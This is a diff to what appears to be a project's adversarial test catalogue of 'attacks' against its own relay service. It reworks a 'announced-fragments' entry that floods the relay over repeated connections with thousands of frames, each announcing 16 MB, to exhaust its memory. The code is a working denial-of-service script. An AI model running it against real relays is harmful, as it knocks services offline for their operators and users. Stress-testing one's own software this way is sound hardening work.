@@ -211,22 +211,29 @@ export const attacks = {
     },
   },
   'announced-fragments': {
-    what: 'first fragments at the port of the links that announce 260 MB each',
+    what: 'a control whose frames come as first pieces that announce 16 MB each',
     async run({relay}) {
-      const fragments = [];
-      for (let i = 1; i <= 5000; ++i) {
-        const body = grpc.bytes(3, Buffer.concat([grpc.number(1, i), grpc.number(2, 260e6), grpc.bytes(3, 'x')]));
+      const message = (body) => {
         const head = Buffer.alloc(4);
         head.writeUInt32LE(body.length);
-        fragments.push(head, body);
+        return Buffer.concat([head, body]);
+      };
+      const hello = (start) => message(Buffer.concat([grpc.bytes(1, 'control'), grpc.bytes(2, start)]));
+      const pieces = [];
+      for (let i = 1; i <= 5000; ++i) {
+        const piece = Buffer.concat([grpc.number(1, i), grpc.number(2, 16e6), grpc.bytes(3, 'x')]);
+        pieces.push(message(Buffer.concat([grpc.number(1, i), grpc.bytes(5, piece)])));
       }
-      const many = Buffer.concat(fragments);
+      const many = Buffer.concat(pieces);
       await forever(async () => {
         const socket = openSocket(relay).resume();
-        socket.write('TWRELAY1');
-        for (let i = 0; i < 120 && !socket.gone; ++i) await write(socket, many);
+        socket.write('TWRELAY2');
+        await write(socket, hello(randomBytes(8).toString('hex')));
+        await sleep(20);
+        await write(socket, many);
+        await sleep(200);
         socket.destroy();
-      }, 100);
+      }, 10);
     },
   },
   'half-open-scrapes': {
